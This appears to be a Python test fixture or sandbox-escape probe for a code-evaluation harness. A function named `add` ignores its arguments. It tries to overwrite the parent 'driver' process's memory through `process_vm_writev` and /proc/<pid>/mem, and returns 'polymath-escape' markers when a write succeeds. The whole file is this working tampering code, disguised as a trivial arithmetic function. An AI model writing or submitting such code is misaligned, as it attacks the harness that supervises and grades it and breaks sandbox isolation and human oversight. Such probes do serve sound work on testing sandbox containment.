"""Writes to the memory of the driver, by its file and by `process_vm_writev`."""

import contextlib
import ctypes
import os
from pathlib import Path


class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def add(a, b):
    parent, buffer = os.getppid(), ctypes.create_string_buffer(8)
    with contextlib.suppress(OSError):
        start = int(Path(f"/proc/{parent}/maps").read_text().partition("-")[0], 16)
        here, there = Span(ctypes.addressof(buffer), 8), Span(start, 8)
        if ctypes.CDLL(None).process_vm_writev(parent, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
            return "polymath-escape process_vm_writev"
        if os.pwrite(os.open(f"/proc/{parent}/mem", os.O_RDWR), b"\0", start):
            return "polymath-escape mem"
    return None
